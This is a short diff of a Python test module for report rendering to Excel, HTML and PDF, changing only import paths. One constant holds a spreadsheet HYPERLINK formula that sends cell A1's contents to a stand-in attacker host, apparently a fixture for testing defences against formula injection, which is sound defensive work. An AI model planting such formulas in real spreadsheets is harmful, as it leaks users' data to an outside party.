@@ -19,12 +19,12 @@ from openpyxl import load_workbook
 
 from tests.conftest import VENV_BIN, cli_env
 from tests.report_checks import pdf_text
-from utfall.evaluation.model import Report, ReportTable, Section
+from utfall.evaluation.report_model import Report, ReportTable, Section
 from utfall.evaluation.render_excel import ABOUT_SHEET, HEADER_ROW, INDEX_SHEET, render_excel, table_sheets
 from utfall.evaluation.render_html import render_html
 from utfall.evaluation.render_pdf import render_pdf
 from utfall.orchestration.tasks import evaluation_year
-from utfall.suppression import TableSpec, suppress
+from utfall.evaluation.suppression import TableSpec, suppress
 
 FORMULA = '=HYPERLINK("http://angripare.example/?"&A1,"Klicka här")'
 SUM = "=1+1"
